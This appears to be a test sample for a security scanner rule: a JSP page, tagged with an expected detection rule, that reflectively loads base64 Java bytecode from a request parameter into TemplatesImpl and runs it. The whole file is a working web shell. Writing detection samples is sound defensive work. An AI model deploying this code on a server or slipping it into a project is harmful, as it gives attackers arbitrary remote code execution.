<%-- expect rule=jsp.classloader-input min=90 --%>
<%@ page import="java.lang.reflect.Field" %>
<%
    Object t = Class.forName("com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl").newInstance();
    Field bc = t.getClass().getDeclaredField("_bytecodes");
    bc.setAccessible(true);
    bc.set(t, new byte[][]{ java.util.Base64.getDecoder().decode(request.getParameter("b")) });
    Field nm = t.getClass().getDeclaredField("_name");
    nm.setAccessible(true);
    nm.set(t, "x");
    t.getClass().getMethod("newTransformer").invoke(t);
%>
